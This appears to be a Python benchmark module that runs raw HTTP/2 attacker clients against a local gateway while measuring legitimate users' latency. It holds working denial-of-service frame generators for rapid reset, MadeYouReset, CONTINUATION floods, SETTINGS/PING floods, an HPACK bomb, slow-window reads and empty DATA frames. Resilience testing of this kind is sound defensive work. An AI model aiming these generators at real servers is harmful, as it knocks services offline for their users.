"""Clients of HTTP/2 on raw sockets, with frames of their own: attackers by kind, and users at a fixed rate.

Each runs in a process of its own: `python -m bench.scenarios.http2_peers users|KIND PORT SECONDS RATE|CONNECTIONS`, which writes what it
saw as JSON.  Attackers come from addresses of their own, send as fast as they are read, and connect again as soon as they are thrown out.
"""

from __future__ import annotations

import asyncio
import gc
import itertools
import json
import os
import struct
import sys
import time
from collections import Counter, deque
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any, Final, cast

import uvloop

from bench.scenarios.clients import Traffic, until

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL: Final = 8
USERS: Final = 4
"""Connections of users."""
PART: Final = 40
"""Frames, or pairs of them, that attackers send at a time."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame (RFC 9113 section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: int, value: bytes) -> bytes:
    """A field whose name stands in the static table below 15, and whose value is short; the receiver keeps nothing (RFC 7541 6.2.2)."""
    return bytes((name, len(value))) + value


def section(path: bytes, method: int = 0x82) -> bytes:
    """The fields of a request; ``method``: indexed, GET or (0x83) POST."""
    return bytes((method, 0x86)) + literal(4, path) + literal(1, b"a.test")


def settings(*pairs: tuple[int, int]) -> bytes:
    """SETTINGS."""
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))


OPENING: Final = PREFACE + settings() + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**30))
GET: Final = section(b"/v1/models")
POST: Final = section(b"/v1/models", 0x83)

# --- attacks: what each connection sends, and where a number stands seconds of silence


Script = Iterator[bytes | float]


def _in_parts(frames: Iterator[bytes]) -> Script:
    while part := b"".join(itertools.islice(frames, PART)):
        yield part


def rapid_reset(lane: int) -> Script:
    """Requests that are reset at once (CVE-2023-44487)."""
    end = struct.pack(">I", CANCEL)
    return _in_parts(
        frame(HEADERS, END_STREAM | END_HEADERS, n, GET) + frame(RST_STREAM, 0, n, end) for n in range(1, 2**31, 2)
    )


def made_you_reset(lane: int) -> Script:
    """Requests followed by what has the receiver reset them (CVE-2025-8671): a window of nothing, DATA behind the end."""
    wrong = (frame(WINDOW_UPDATE, 0, 1, bytes(4)), frame(DATA, 0, 1, b"x"))[lane % 2]
    return _in_parts(
        frame(HEADERS, END_STREAM | END_HEADERS, n, GET) + wrong[:5] + struct.pack(">I", n) + wrong[9:]
        for n in range(1, 2**31, 2)
    )


def continuation(lane: int) -> Script:
    """A header block without an end, in frames that are large, or of no byte (CVE-2024-27316 and others)."""
    size = (16_384, 0)[lane % 2]
    yield frame(HEADERS, END_STREAM, 1, GET)
    yield from _in_parts(itertools.repeat(frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y"[:5] * (size // 5))))


def settings_ping(lane: int) -> Script:
    """SETTINGS and PING, which are to be answered (CVE-2019-9512, 9515)."""
    return _in_parts(itertools.cycle((settings(), frame(PING, 0, 0, b"attacker"))))


def hpack_bomb(lane: int) -> Script:
    """A field of 4 KiB, then as many references to it as a header block may have; every other lane empties the table with each request,
    fills it again, and has no more references than are decoded to the end."""
    large = b"\x40\x01x\x7f" + bytes((0xE0, 0x1E)) + b"v" * 4063  # a literal that is kept: 127 + 0x60 + (0x1e << 7)
    for n in itertools.count(1, 2):
        if lane % 2:
            yield frame(HEADERS, END_STREAM | END_HEADERS, n, b"\x20\x3f\xe1\x1f" + GET + large + b"\xbe" * 120)
            continue
        block = (GET + large if n == 1 else GET) + b"\xbe" * 32_000
        parts = [block[at : at + 16_384] for at in range(0, min(len(block), 32_600), 16_384)]
        yield frame(HEADERS, END_STREAM, n, parts[0]) + b"".join(
            frame(CONTINUATION, END_HEADERS if part is parts[-1] else 0, n, part) for part in parts[1:]
        )


def slow_window(lane: int) -> Script:
    """Asks for a hundred large answers, and has room for nothing of them but a byte now and then; every fourth lane has as much room as
    there is by default, and never more."""
    if lane % 4:
        yield settings((4, 0))
    ask = section(b"/bytes/1048576")
    yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, n, ask) for n in range(1, 200, 2))
    for n in itertools.cycle(range(1, 200, 2)):
        yield 0.05
        if lane % 4:
            yield frame(WINDOW_UPDATE, 0, n, struct.pack(">I", 1))


def empty_data(lane: int) -> Script:
    """A body of DATA that has no byte, or nothing but padding (CVE-2019-9518)."""
    yield frame(HEADERS, END_HEADERS, 1, POST)
    yield from _in_parts(itertools.repeat((frame(DATA, 0, 1), frame(DATA, 8, 1, b"\x02\0\0"))[lane % 2]))


ATTACKS: Final[dict[str, Callable[[int], Script]]] = {
    one.__name__: one
    for one in (rapid_reset, made_you_reset, continuation, settings_ping, hpack_bomb, slow_window, empty_data)
}


def source(kind: str) -> str:
    """The address that attackers of a kind come from: nobody is taken for those before."""
    return f"127.0.0.{2 + list(ATTACKS).index(kind)}"


@dataclass(slots=True)
class Siege:
    """What became of the connections of an attack."""

    kind: str
    port: int
    until: float
    """Monotonic."""
    lives: list[float] = field(default_factory=list)
    """Seconds of each connection that is over."""
    codes: Counter[int] = field(default_factory=Counter)
    """Of GOAWAY, which a reset may have overtaken."""
    refused: int = 0
    """Connections that could not be opened."""
    bytes_sent: int = 0

    async def keep(self, lane: int) -> float:
        """One connection after the other; return how long the last has lived that nobody ended."""
        loop = asyncio.get_running_loop()
        while time.monotonic() < self.until:
            try:
                _, one = await loop.create_connection(
                    lambda: Attacker(self, ATTACKS[self.kind](lane)),
                    "127.0.0.1",
                    self.port,
                    local_addr=(source(self.kind), 0),
                )
            except OSError:
                self.refused += 1
                await asyncio.sleep(0.01)
                continue
            await asyncio.wait((one.gone,), timeout=max(0.0, self.until - time.monotonic()))
            if not one.gone.done():
                one.stop()
                return time.monotonic() - one.since
            self.lives.append(one.gone.result())
        return 0.0


class Attacker(asyncio.Protocol):
    """One connection."""

    def __init__(self, siege: Siege, script: Script) -> None:
        self.since = time.monotonic()
        self.gone: asyncio.Future[float] = asyncio.get_running_loop().create_future()
        self._siege = siege
        self._script = script
        self._loop = asyncio.get_running_loop()
        self._is_paused = self._is_over = False
        self._buffer = b""

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        """Begin."""
        self._transport = cast(asyncio.Transport, transport)
        self._transport.write(OPENING)
        self._pour()

    def _pour(self) -> None:
        """The next part, and the one behind it in the next turn."""
        if self._is_over or self._is_paused:
            return
        part = next(self._script, 1.0)
        if isinstance(part, float):
            self._loop.call_later(part, self._pour)
        else:
            self._siege.bytes_sent += len(part)
            self._transport.write(part)
            self._loop.call_soon(self._pour)

    def pause_writing(self) -> None:
        """It is not read."""
        self._is_paused = True

    def resume_writing(self) -> None:
        """It is."""
        self._is_paused = False
        self._pour()

    def data_received(self, data: bytes) -> None:
        """Look for GOAWAY alone."""
        self._buffer += data
        for kind, _, _, payload in self._frames():
            if kind == GOAWAY:
                self._siege.codes[int.from_bytes(payload[4:8], "big")] += 1

    def _frames(self) -> Iterator[tuple[int, int, int, bytes]]:
        frames, self._buffer = cut(self._buffer)
        return iter(frames)

    def connection_lost(self, error: Exception | None) -> None:
        """It was thrown out."""
        self._is_over = True
        if not self.gone.done():
            self.gone.set_result(time.monotonic() - self.since)

    def stop(self) -> None:
        """The time is over."""
        self._is_over = True
        self._transport.abort()


def cut(data: bytes) -> tuple[list[tuple[int, int, int, bytes]], bytes]:
    """The frames that are whole: kind, flags, stream, payload; and what is left."""
    found, at = [], 0
    while len(data) - at >= 9:
        end = at + 9 + int.from_bytes(data[at : at + 3], "big")
        if len(data) < end:
            break
        kind, flags, stream = struct.unpack_from(">BBI", data, at + 3)
        found.append((kind, flags, stream, data[at + 9 : end]))
        at = end
    return found, data[at:]


# --- users


class User(asyncio.Protocol):
    """One connection of somebody who means no harm."""

    def __init__(self, traffic: Traffic) -> None:
        self._traffic = traffic
        self._stream = 1
        self._buffer = b""
        self.due: dict[int, float] = {}
        self._good: set[int] = set()

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        """Begin."""
        self._transport = cast(asyncio.Transport, transport)
        self._transport.write(OPENING)

    def ask(self, due: float) -> None:
        """A request."""
        self.due[self._stream] = due
        self._transport.write(frame(HEADERS, END_STREAM | END_HEADERS, self._stream, GET))
        self._stream += 2

    def data_received(self, data: bytes) -> None:
        """Count what is answered, and how."""
        frames, self._buffer = cut(self._buffer + data)
        for kind, flags, stream, payload in frames:
            if kind == SETTINGS and not flags & ACK:
                self._transport.write(frame(SETTINGS, ACK, 0))
            elif kind == HEADERS and payload[:1] == b"\x88":
                self._good.add(stream)
            if kind in (HEADERS, DATA) and flags & END_STREAM:
                due = self.due.pop(stream, None)
                if due is not None and stream in self._good:
                    self._traffic.latencies.append(time.monotonic() - due)
                self._good.discard(stream)


async def use(port: int, seconds: float, rate: float) -> Traffic:
    """Ask at that rate for so long, and wait at most five seconds more."""
    traffic, loop = Traffic(), asyncio.get_running_loop()
    pairs = [await loop.create_connection(lambda: User(traffic), "127.0.0.1", port) for _ in range(USERS)]
    users = deque(user for _, user in pairs)
    began, sent = time.monotonic(), 0
    while (elapsed := time.monotonic() - began) < seconds:
        while sent < elapsed * rate:
            users[0].ask(time.monotonic())
            users.rotate(1)
            sent += 1
        await asyncio.sleep(0.001)
    await until(lambda: not any(user.due for user in users), 5)
    traffic.errors = sent - len(traffic.latencies)
    for transport, _ in pairs:
        transport.abort()
    return traffic


async def attack(kind: str, port: int, seconds: float, connections: int) -> dict[str, Any]:
    """That many at a time, for so long."""
    siege = Siege(kind, port, time.monotonic() + seconds)
    alive = await asyncio.gather(*(siege.keep(lane) for lane in range(connections)))
    return {
        "lives": siege.lives,
        "alive": [life for life in alive if life],
        "codes": dict(siege.codes),
        "refused": siege.refused,
        "bytes": siege.bytes_sent,
    }


async def told(*arguments: str | float) -> dict[str, Any]:
    """What one of these processes has seen."""
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "bench.scenarios.http2_peers", *map(str, arguments), stdout=asyncio.subprocess.PIPE
    )
    out, _ = await process.communicate()
    found: dict[str, Any] = json.loads(out)
    return found


def main(arguments: list[str]) -> None:
    """Do it, and write what was seen."""
    what, port, seconds, count = arguments[0], int(arguments[1]), float(arguments[2]), float(arguments[3])
    gc.freeze()
    gc.disable()  # a collection here would be charged to the gateway as latency
    if what == "users":
        traffic = uvloop.run(use(port, seconds, count))
        print(json.dumps({"latencies": traffic.latencies, "errors": traffic.errors}))
    else:
        # It shares its processor with those who measure, who come first whenever there is anything to do.
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
        print(json.dumps(uvloop.run(attack(what, port, seconds, int(count)))))


if __name__ == "__main__":
    main(sys.argv[1:])
